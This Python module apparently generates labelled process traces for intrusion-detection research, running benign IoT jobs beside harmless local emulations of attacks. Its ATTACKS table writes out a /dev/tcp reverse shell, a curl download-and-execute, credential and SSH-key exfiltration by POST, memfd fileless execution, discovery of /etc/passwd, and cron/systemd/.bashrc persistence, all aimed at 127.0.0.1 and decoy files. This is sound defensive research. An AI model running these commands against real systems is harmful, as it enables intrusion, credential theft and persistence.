"""Benign IoT-like workloads and harmless attack emulations, run as real processes and traced.

A *device session* is a shell script of jobs run one after another under a collector; each job is
its own process tree (``sh -c JOB`` started by the script, its pid written to a manifest), so
every window of the trace carries the label of what ran in it: ``benign`` or an attack class.

The device's services run beside the traced script, untraced, on 127.0.0.1: a Mosquitto MQTT
broker (Debian ``mosquitto``) and a small HTTP dashboard; so do the attacker's: a payload server,
an upload server and a reverse-shell listener (the "outside world", all on 127.0.0.1). Every
file a job or an attack touches lies under the session's temporary root (``$ROOT``), except
system files that are only read (``/etc/services``, ``/proc``).

Devices differ in their job mix (non-iid federated clients): :data:`DEVICES`. Attacks
(:data:`ATTACKS`), all harmless:

* ``fileless``: python writes a copy of ``/usr/bin/id`` into a ``memfd_create`` file and
  executes it from memory (``/proc/self/fd/N``);
* ``download_exec``: curl fetches a script from the local payload server, chmod +x, runs it;
* ``reverse_shell``: bash connects to the local listener and runs the commands it sends
  (``id``, ``uname -a``, ``cat /etc/hostname``);
* ``exfiltration``: planted decoy credentials (``$ROOT/home/.aws/credentials``, an SSH key) read
  and POSTed to the local upload server;
* ``discovery``: ``cat /etc/services``, ``ss -tulpn``, ``id``, ``uname -a``, ``cat /etc/passwd``;
* ``persistence``: a cron entry and a systemd unit written into a temporary root
  (``$ROOT/tmp/rootfs/etc/...``) and a line appended to the decoy home's ``.bashrc``.

Attacks leave nothing a later benign job reads (the backup job archives ``$ROOT/etc``, so the
persistence attack writes its own temporary root), so a benign window's label stays true.
"""
from __future__ import annotations

import http.server
import json
import os
import random
import shlex
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from repnet.errors import RepnetError
from repnet.proviot.collect import Trace, collector

#: service name -> the port number its label gets in traces (aliases), whatever port it ran on
SERVICE_PORTS = {"MQTT": 1883, "HTTP": 8080, "C2HTTP": 8000, "UPLOAD": 9000, "RSH": 4444}

BENIGN_JOBS = {
    "sensor_publish": 'for i in 1 2 3; do v=$(cut -d" " -f1 /proc/loadavg); '
                      'mosquitto_pub -h 127.0.0.1 -p $MQTT -r -t sensors/$DEV/load -m "$v"; done',
    "mqtt_subscribe": 'mosquitto_sub -h 127.0.0.1 -p $MQTT -t "sensors/#" -C 1 -W 3 > $ROOT/run/last.txt || true',
    "sensor_store": 'sqlite3 $ROOT/data/sensors.db "create table if not exists r(t integer, v real); '
                    'insert into r values(strftime(\'%s\',\'now\'), $VALUE);"',
    "sensor_json": 'python3 -c "import json, os, time; v = open(\'/proc/loadavg\').read().split()[0]; '
                   'json.dump({\'t\': time.time(), \'load\': float(v)}, open(os.environ[\'ROOT\'] + '
                   '\'/run/reading.json\', \'w\'))"',
    "dashboard_poll": 'curl -s -o $ROOT/cache/status.json http://127.0.0.1:$HTTP/status.json',
    "dashboard_update": 'sqlite3 $ROOT/data/sensors.db "create table if not exists r(t integer, v real); '
                        'select count(*) from r;" > $ROOT/www/count.txt',
    "log_rotate": 'if [ -f $ROOT/log/app.log ]; then mv $ROOT/log/app.log $ROOT/log/app.log.1; '
                  'gzip -f $ROOT/log/app.log.1; fi; echo started > $ROOT/log/app.log',
    "app_log": 'echo "$(date +%s) reading ok $VALUE" >> $ROOT/log/app.log',
    "cron_health": 'df -P / > $ROOT/run/disk.txt; head -5 /proc/meminfo > $ROOT/run/mem.txt; '
                   'cat /proc/uptime > $ROOT/run/uptime.txt',
    "backup": 'tar czf $ROOT/backup/data.tgz -C $ROOT data etc',
    "config_check": 'grep -c sensor $ROOT/etc/device.conf > $ROOT/run/conf.count; '
                    'sha256sum $ROOT/etc/device.conf > $ROOT/run/conf.sum',
}

ATTACKS = {
    "fileless": 'python3 -c "import os; fd = os.memfd_create(\'kworker\'); '
                'os.write(fd, open(\'/usr/bin/id\', \'rb\').read()); '
                'os.execv(\'/proc/self/fd/%d\' % fd, [\'kworker\'])" > $ROOT/tmp/fileless.out',
    "download_exec": 'curl -s -o $ROOT/tmp/update.sh http://127.0.0.1:$C2HTTP/update.sh && chmod +x $ROOT/tmp/update.sh '
                     '&& $ROOT/tmp/update.sh',
    "reverse_shell": 'bash -c "exec 3<>/dev/tcp/127.0.0.1/$RSH; bash <&3 >&3 2>&3"',
    "exfiltration": 'cat $ROOT/home/.aws/credentials $ROOT/home/.ssh/id_rsa > $ROOT/tmp/c.txt; '
                    'curl -s -X POST --data-binary @$ROOT/tmp/c.txt http://127.0.0.1:$UPLOAD/upload',
    "discovery": 'cat /etc/services > $ROOT/tmp/d1; ss -tulpn > $ROOT/tmp/d2 2>&1; id > $ROOT/tmp/d3; '
                 'uname -a >> $ROOT/tmp/d3; cat /etc/passwd > $ROOT/tmp/d4',
    "persistence": 'mkdir -p $ROOT/tmp/rootfs/etc/cron.d $ROOT/tmp/rootfs/etc/systemd/system; '
                   'echo "* * * * * root $ROOT/tmp/update.sh" > $ROOT/tmp/rootfs/etc/cron.d/sys-update; '
                   'printf "[Service]\\nExecStart=$ROOT/tmp/update.sh\\n" > '
                   '$ROOT/tmp/rootfs/etc/systemd/system/sys-update.service; '
                   'echo "$ROOT/tmp/update.sh &" >> $ROOT/home/.bashrc',
}
MQTT_JOBS = ("sensor_publish", "mqtt_subscribe")
#: the PATH of the device's jobs (system tools only, whatever the caller's PATH holds)
DEVICE_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

#: device -> {benign job: weight}: different mixes of the same kinds of job (non-iid)
DEVICES = {
    "sensor-hub": {"sensor_publish": 4, "mqtt_subscribe": 2, "sensor_store": 3, "sensor_json": 3, "app_log": 2,
                   "cron_health": 1, "log_rotate": 1},
    "dashboard": {"dashboard_poll": 4, "dashboard_update": 3, "sensor_store": 2, "sensor_json": 1, "app_log": 2,
                  "config_check": 2, "sensor_publish": 1},
    "maintenance": {"log_rotate": 3, "backup": 3, "cron_health": 3, "config_check": 2, "app_log": 2,
                    "sensor_json": 1, "dashboard_poll": 1},
}


@dataclass
class Job:
    name: str
    label: str  # "benign" or the attack class
    command: str


def plan_session(device: str, benign: int, attacks: dict[str, int] | None = None, seed: int = 0,
                 mqtt: bool | None = None) -> list[Job]:
    """``benign`` jobs drawn from ``device``'s mix (seeded), with ``attacks`` (class -> count)
    spread among them at random positions."""
    if device not in DEVICES:
        raise RepnetError(f"unknown device '{device}'; choose from: {', '.join(DEVICES)}")
    bad = sorted(set(attacks or {}) - set(ATTACKS))
    if bad:
        raise RepnetError(f"unknown attack {', '.join(bad)}; choose from: {', '.join(ATTACKS)}")
    if mqtt is None:
        mqtt = shutil.which("mosquitto") is not None or os.path.exists("/usr/sbin/mosquitto")
    rng = random.Random(seed)
    mix = {k: w for k, w in DEVICES[device].items() if mqtt or k not in MQTT_JOBS}
    names, weights = list(mix), list(mix.values())
    jobs = [Job(n, "benign", BENIGN_JOBS[n]) for n in rng.choices(names, weights, k=benign)]
    for a, n in (attacks or {}).items():
        for _ in range(n):
            jobs.insert(rng.randrange(len(jobs) + 1), Job(a, a, ATTACKS[a]))
    return jobs


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        pass


class _Upload(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        self.rfile.read(n)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok\n")

    def log_message(self, *a):
        pass


class Services:
    """The device's services and the attacker's on 127.0.0.1 (untraced), started and stopped together."""

    def __init__(self, root: Path):
        self.root = root
        self.ports = {k: _free_port() for k in SERVICE_PORTS}
        self.servers: list = []
        self.procs: list[subprocess.Popen] = []
        self.stop_flag = threading.Event()

    def __enter__(self):
        r = self.root
        mosq = shutil.which("mosquitto") or ("/usr/sbin/mosquitto" if os.path.exists("/usr/sbin/mosquitto") else None)
        if mosq:
            conf = r / "srv" / "mosquitto.conf"
            conf.write_text(f"listener {self.ports['MQTT']} 127.0.0.1\nallow_anonymous true\npersistence false\n")
            self.procs.append(subprocess.Popen([mosq, "-c", str(conf)], stdout=subprocess.DEVNULL,
                                               stderr=subprocess.DEVNULL, start_new_session=True))
        www, c2 = r / "www", r / "srv" / "c2"
        self._http(self.ports["HTTP"], lambda *a, **k: _Quiet(*a, directory=str(www), **k))
        self._http(self.ports["C2HTTP"], lambda *a, **k: _Quiet(*a, directory=str(c2), **k))
        self._http(self.ports["UPLOAD"], _Upload)
        lst = socket.socket()
        lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lst.bind(("127.0.0.1", self.ports["RSH"]))
        lst.listen(4)
        lst.settimeout(0.2)
        self.listener = lst
        threading.Thread(target=self._shell_listener, daemon=True).start()
        if mosq:
            deadline = time.time() + 10
            while time.time() < deadline:
                try:
                    socket.create_connection(("127.0.0.1", self.ports["MQTT"]), timeout=0.5).close()
                    break
                except OSError:
                    time.sleep(0.1)
        return self

    def _http(self, port, handler):
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
        srv.daemon_threads = True
        threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()
        self.servers.append(srv)

    def _shell_listener(self):
        while not self.stop_flag.is_set():
            try:
                conn, _ = self.listener.accept()
            except OSError:
                continue
            with conn:
                try:
                    conn.sendall(b"id\nuname -a\ncat /etc/hostname\nexit\n")
                    conn.settimeout(5)
                    while conn.recv(4096):
                        pass
                except OSError:
                    pass

    def __exit__(self, *exc):
        self.stop_flag.set()
        for s in self.servers:
            s.shutdown()
            s.server_close()
        self.listener.close()
        for p in self.procs:
            p.terminate()
            try:
                p.wait(timeout=10)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
        return False


def _ticker(fifo: Path, pause: float, stop: threading.Event) -> None:
    """Every ``pause`` seconds, one line to the session's FIFO (once the script waits on it)."""
    while not stop.is_set():
        time.sleep(pause)
        while not stop.is_set():
            try:
                fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:  # no reader yet: the script is still running a job
                time.sleep(0.02)
                continue
            try:
                os.write(fd, b"\n")
            finally:
                os.close(fd)
            break


def _children_cpu() -> float:
    import resource

    r = resource.getrusage(resource.RUSAGE_CHILDREN)
    return r.ru_utime + r.ru_stime


def prepare_root(root: Path, device: str) -> None:
    """The session's temporary root: data folders, a device config, the planted decoys, the payload."""
    for d in ("data", "log", "run", "cache", "www", "backup", "etc", "tmp", "home/.aws", "home/.ssh", "srv/c2"):
        (root / d).mkdir(parents=True, exist_ok=True)
    (root / "etc" / "device.conf").write_text(f"name={device}\nsensor=load\nsensor=temp\ninterval=10\n")
    (root / "www" / "status.json").write_text(json.dumps({"device": device, "ok": True}))
    (root / "home" / ".aws" / "credentials").write_text("[default]\naws_access_key_id=DECOYDECOYDECOY\n"
                                                        "aws_secret_access_key=decoy-not-a-real-key\n")
    (root / "home" / ".ssh" / "id_rsa").write_text("-----BEGIN DECOY KEY-----\nnot a key\n-----END DECOY KEY-----\n")
    (root / "home" / ".bashrc").write_text("# decoy home\n")
    payload = root / "srv" / "c2" / "update.sh"
    payload.write_text(f"#!/bin/sh\necho pwned > {root}/tmp/marker\nid > {root}/tmp/id.txt\n")
    payload.chmod(0o755)


def session_script(jobs: list[Job], manifest: Path, pause_fifo: Path | None = None) -> str:
    """The traced shell script: each job in its own ``sh -c`` process tree, its pid and label in
    the manifest (one JSON line, written before the job's work matters: the job waits for it).
    With ``pause_fifo``, the script waits between jobs for a line on that FIFO (the shell's
    builtin ``read``: no process, so the pause adds no window of its own)."""
    lines = ["#!/bin/sh", "set -u"]
    for j in jobs:
        rec = json.dumps({"label": j.label, "name": j.name})[1:-1]  # '"label": "...", "name": "..."'
        lines.append(f"sh -c {shlex.quote(j.command)} & pid=$!")
        lines.append(f"echo '{{\"root\": '$pid', {rec}}}' >> {shlex.quote(str(manifest))}")
        lines.append("wait $pid")
        if pause_fifo is not None:
            lines.append(f"read _tick < {shlex.quote(str(pause_fifo))}")
    return "\n".join(lines) + "\n"


def run_session(jobs: list[Job], device: str, *, collector_name: str = "strace", seed: int = 0,
                root: str | None = None, pause: float = 0.0, traced: bool = True, raw_out: str | None = None,
                on_start=None) -> Trace | dict:
    """Run ``jobs`` as one device session under the collector (``traced=False``: without one, for
    the collector-overhead baseline; returns ``{"wall_s", "cpu_s"}`` then). The trace's windows are
    the jobs. ``raw_out``: where the collector writes its raw output (a monitor can follow it);
    ``on_start(aliases)`` is called once the services run, just before the jobs start."""
    own = root is None
    base = Path(tempfile.mkdtemp(prefix=f"proviot-{device}-")) if own else Path(root)
    try:
        prepare_root(base, device)
        manifest = base / "srv" / "manifest.jsonl"
        manifest.unlink(missing_ok=True)
        script = base / "srv" / "session.sh"
        fifo = None
        if pause:
            fifo = base / "srv" / "tick.fifo"
            fifo.unlink(missing_ok=True)
            os.mkfifo(fifo)
        script.write_text(session_script(jobs, manifest, fifo))
        with Services(base) as svc:
            env = {"PATH": DEVICE_PATH, "HOME": str(base / "home"), "LANG": "C",
                   "ROOT": str(base), "DEV": device, "VALUE": str(random.Random(seed).randint(10, 99)),
                   **{k: str(v) for k, v in svc.ports.items()}}
            aliases = [(str(base), "$ROOT")] + [(f"127.0.0.1:{svc.ports[k]}", f"127.0.0.1:{p}")
                                                for k, p in SERVICE_PORTS.items()]
            if on_start is not None:
                on_start(aliases)
            stop = threading.Event()
            if fifo is not None:
                threading.Thread(target=_ticker, args=(fifo, pause, stop), daemon=True).start()
            if not traced:
                t0, c0 = time.time(), _children_cpu()
                subprocess.run(["sh", str(script)], env=env, cwd=str(base), stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=1800)
                stop.set()
                return {"wall_s": time.time() - t0, "cpu_s": _children_cpu() - c0}
            c0 = _children_cpu()
            trace = collector(collector_name).run(["sh", str(script)], aliases=aliases, windows_from=manifest,
                                                  env=env, cwd=str(base), timeout=1800,
                                                  output=subprocess.DEVNULL, raw_out=raw_out)
            trace.meta["cpu_s"] = _children_cpu() - c0  # the jobs' and the collector's CPU time
            stop.set()
        trace.meta.update(device=device, jobs=len(jobs), seed=seed)
        return trace
    finally:
        if own:
            shutil.rmtree(base, ignore_errors=True)
